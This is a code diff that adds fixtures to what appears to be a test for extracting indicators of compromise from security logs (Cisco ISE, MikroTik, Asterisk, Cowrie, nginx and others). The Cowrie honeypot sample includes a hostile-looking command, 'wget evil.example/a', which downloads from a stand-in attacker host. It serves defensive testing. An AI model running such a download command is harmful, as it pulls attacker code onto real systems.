@@ -24,6 +24,121 @@ const [E, U, I, O] = [
 ];
 
 const PRODUCTS: readonly (readonly [string, object, readonly string[]])[] = [
+  [
+    "ise",
+    line(
+      "Device IP Address=8.7.6.5, NetworkDeviceIP=8.7.6.4, Calling-Station-ID=185.244.31.158",
+    ),
+    [I],
+  ],
+  [
+    "pppd",
+    line(
+      "remote IP address 185.244.31.158, local IP address 8.7.6.5, primary DNS address 8.7.6.4",
+    ),
+    [I],
+  ],
+  ["dhclient", line("bound to 10.0.0.5; DNS server 8.7.6.5"), []],
+  [
+    "exim's interface",
+    line("H=(x) [185.244.31.158]:4000 I=[8.7.6.5]:25 rejected"),
+    [I],
+  ],
+  ["alertmanager", {
+    data: {
+      generatorURL: "https://prom.own.com/g",
+      silenceURL: "https://a.own.com/s",
+      runbook_url: "https://wiki.own.com/r",
+    },
+  }, []],
+  [
+    "tickets",
+    line(
+      "Ticket created: https://jira.own.com/1 see runbook https://wiki.own.com/x",
+    ),
+    [],
+  ],
+  ["starts and ends", {
+    data: {
+      mgmt_ip: "9.8.7.6",
+      managementAddress: "9.8.7.5",
+      nas_ip_address: "9.8.7.4",
+      sensor: { ipv4: "9.8.7.3" },
+      dest_fqdn: "evil.example",
+      lookup: { name: "a.evil.example" },
+    },
+  }, [E, "domain a.evil.example"]],
+  [
+    "mikrotik nat",
+    line(
+      "proto TCP (SYN), 185.244.31.158:443->10.0.0.5:1234, NAT (185.244.31.158:443->8.7.6.5:1)->10.0.0.5, len 52",
+    ),
+    [I],
+  ],
+  [
+    "asterisk security",
+    line(
+      'SecurityEvent="InvalidAccountID",LocalAddress="IPV4/UDP/8.7.6.5/5060",RemoteAddress="IPV4/UDP/185.244.31.158/5071"',
+    ),
+    [I],
+  ],
+  ["serv-u", {
+    full_log:
+      "(000002) Connected to 185.244.31.158 (local address 8.7.6.5, port 22)",
+    data: { srcip: "185.244.31.158", dstip: O },
+  }, [I]],
+  [
+    "unifi",
+    line(
+      "CEF:0|Ubiquiti|UniFi Network|9.3.45|201|x|4|src=10.0.0.5 dst=185.244.31.158 UNIFIdeviceIp=8.7.6.5",
+    ),
+    [I],
+  ],
+  ["teleport", {
+    data: {
+      event: "user.login",
+      "addr.remote": "185.244.31.158:1234",
+      "addr.local": "8.7.6.5:3080",
+    },
+  }, [I]],
+  ["cowrie", {
+    data: {
+      src_ip: "185.244.31.158",
+      url: "http://evil.example/a",
+      shasum: "ab".repeat(32),
+      input: "wget evil.example/a",
+    },
+  }, [I, U, E, "sha256 " + "ab".repeat(32)]],
+  [
+    "nginx ssl",
+    line(
+      "SSL_do_handshake() failed, client: 185.244.31.158, server: 8.7.6.5:443",
+    ),
+    [I],
+  ],
+  ["resolvers and reporters", {
+    data: {
+      resolver_ip: "9.8.7.6",
+      dnsServerIp: "9.8.7.5",
+      reporterIP: "9.8.7.4",
+    },
+  }, []],
+  ["tokens' issuers", {
+    data: { iss: "https://sts.own.com/", issuer: "https://login.own.com/" },
+  }, []],
+  [
+    "xml's schemas",
+    line('<Event xsi:schemaLocation="http://x.own.com/s.xsd"/>'),
+    [],
+  ],
+  ["vuls", {
+    rule: { groups: ["vuls"] },
+    data: { vuls: { affected_packages_info: "1.1.1.4 => 1.1.1.9" } },
+  }, []],
+  ["qualys", {
+    rule: { groups: ["qualysguard"] },
+    data: { qualysguard: { ip: O } },
+  }, []],
   ["traefik", {
     data: {
       ClientAddr: "185.244.31.158:4000",
